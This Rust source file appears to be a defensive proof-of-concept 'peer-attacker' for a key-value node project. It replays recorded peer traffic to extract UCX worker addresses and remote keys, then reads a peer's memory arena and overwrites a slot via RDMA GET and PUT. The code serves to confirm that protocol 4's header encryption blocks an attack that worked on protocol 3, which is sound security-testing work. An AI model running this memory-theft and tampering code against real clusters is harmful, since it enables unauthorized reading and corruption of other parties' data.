//! The UCX attack of an on-path observer (issue 25, item 1), for the `peer-attacker` binary:
//! from the bytes a forwarder saw a source send on a peer connection, learn the source's
//! UCX worker address, remote key and slot addresses, open an own UCP endpoint with them,
//! GET the source's arena and PUT over a block. Holds no cluster key.
//!
//! Protocol 3 carried `UcxOffer` and `Slot` in readable (only MAC'd) headers, and the arena
//! was registered remote-writable: every step worked. Protocol 4 encrypts every sealed
//! header, so the observer finds no offer and no address and never gets a UCP endpoint.

use std::sync::Arc;
use std::time::Duration;

use kvnode_proto::frame::{FramePrefix, PREFIX_LEN};
use kvnode_proto::peer::{PeerMsg, check_prefix, decode_peer};
use kvnode_ucx::{Access, Context, MemoryKind, PackedRkey, Region, Remote, WorkerAddress};

/// What the attack saw, one `key=value` per line.
#[derive(Debug, Default)]
pub struct Report(pub Vec<String>);

impl Report {
    pub(crate) fn say(&mut self, k: &str, v: impl std::fmt::Display) {
        self.0.push(format!("{k}={v}"));
    }
}

/// What an observer could read from the recorded bytes.
#[derive(Debug, Default)]
pub struct Seen {
    /// Frames the recording splits into.
    pub frames: usize,
    /// `UcxOffer`s read: worker address, packed key, arena base and length.
    pub offers: Vec<(Vec<u8>, Vec<u8>, u64, u64)>,
    /// `Slot`s read: address, length, BLAKE3 hash.
    pub slots: Vec<(u64, u32, Vec<u8>)>,
}

/// Splits `rec` (one plain `Challenge`, then sealed frames whose tag is `tag` bytes) into
/// frame headers, up to a frame the recording ends inside; `None` if a prefix is not a
/// peer frame's (the wrong tag length).
fn split(rec: &[u8], tag: usize) -> Option<Vec<(FramePrefix, &[u8])>> {
    let mut out = Vec::new();
    let mut at = 0usize;
    while let Some(b) = rec.get(at..at + PREFIX_LEN) {
        let p = FramePrefix::decode(b.try_into().ok()?).ok()?;
        let p = check_prefix(p).ok()?;
        let h = at + PREFIX_LEN;
        let t = if out.is_empty() { 0 } else { tag };
        let Some(header) = rec.get(h..h + p.header_len as usize) else {
            break;
        };
        out.push((p, header));
        at = h + p.header_len as usize + t + p.payload_len as usize;
    }
    Some(out)
}

/// Reads what it can: frames split under either tag length a protocol used (32: the keyed
/// BLAKE3 tag of protocol 3's authenticated sessions, 16: AES-GCM), headers decoded as plain
/// msgpack wherever they decode.
pub fn observe(rec: &[u8]) -> Seen {
    let mut best = Seen::default();
    for tag in [32, 16] {
        let Some(frames) = split(rec, tag) else {
            continue;
        };
        let mut s = Seen {
            frames: frames.len(),
            ..Seen::default()
        };
        for (p, h) in frames {
            match decode_peer(p, h) {
                Ok(PeerMsg::UcxOffer {
                    worker,
                    rkey,
                    base,
                    len,
                }) => s.offers.push((worker, rkey, base, len)),
                Ok(PeerMsg::Slot {
                    addr, len, hash, ..
                }) => s.slots.push((addr, len, hash)),
                _ => {}
            }
        }
        if s.frames > best.frames {
            best = s;
        }
    }
    best
}

/// Observes `rec`, then uses whatever offer and slots it read: GETs the first slot and the
/// arena's first MiB, PUTs `0xEE` over the first slot and reads it back.
pub fn steal(rec: &[u8]) -> Report {
    let mut r = Report::default();
    let seen = observe(rec);
    r.say("recorded_bytes", rec.len());
    r.say("frames", seen.frames);
    r.say("offers", seen.offers.len());
    r.say("slots", seen.slots.len());
    let (Some((worker, rkey, base, len)), Some((addr, slen, hash))) =
        (seen.offers.last(), seen.slots.first())
    else {
        return r;
    };
    let limit = Duration::from_secs(3);
    let ctx = match Context::new() {
        Ok(c) => c,
        Err(e) => {
            r.say("ucx", format!("failed({e})"));
            return r;
        }
    };
    let n = (*slen as usize).max((*len).min(1 << 20) as usize);
    let mut buf = vec![0u8; n];
    // SAFETY: `buf` outlives the region and the endpoint (both dropped before it, below).
    let landing =
        match unsafe { Region::map(&ctx, buf.as_mut_ptr(), n, MemoryKind::Host, Access::Local) } {
            Ok(x) => Arc::new(x),
            Err(e) => {
                r.say("ucx", format!("failed({e})"));
                return r;
            }
        };
    let mut remote = match Remote::connect(
        &ctx,
        &WorkerAddress(worker.clone()),
        &PackedRkey(rkey.clone()),
        landing,
    ) {
        Ok(x) => x,
        Err(e) => {
            r.say("endpoint", format!("failed({e})"));
            return r;
        }
    };
    let s = *slen as usize;
    match remote.get(&mut buf[..s], *addr, limit) {
        Ok(()) => {
            r.say("get", "ok");
            r.say(
                "get_matches_slot_hash",
                blake3::hash(&buf[..s]).as_bytes() == &hash[..],
            );
        }
        Err(e) => r.say("get", format!("failed({e})")),
    }
    let m = (*len).min(1 << 20) as usize;
    match remote.get(&mut buf[..m], *base, limit) {
        Ok(()) => r.say("arena_get", format!("ok({m} bytes)")),
        Err(e) => r.say("arena_get", format!("failed({e})")),
    }
    let evil = vec![0xEEu8; s];
    match remote.put(&evil, *addr, limit) {
        Ok(()) => {
            let back = remote.get(&mut buf[..s], *addr, limit);
            r.say("put", "ok");
            r.say("put_read_back", back.is_ok() && buf[..s] == evil[..]);
        }
        Err(e) => r.say("put", format!("failed({e})")),
    }
    drop(remote);
    r
}
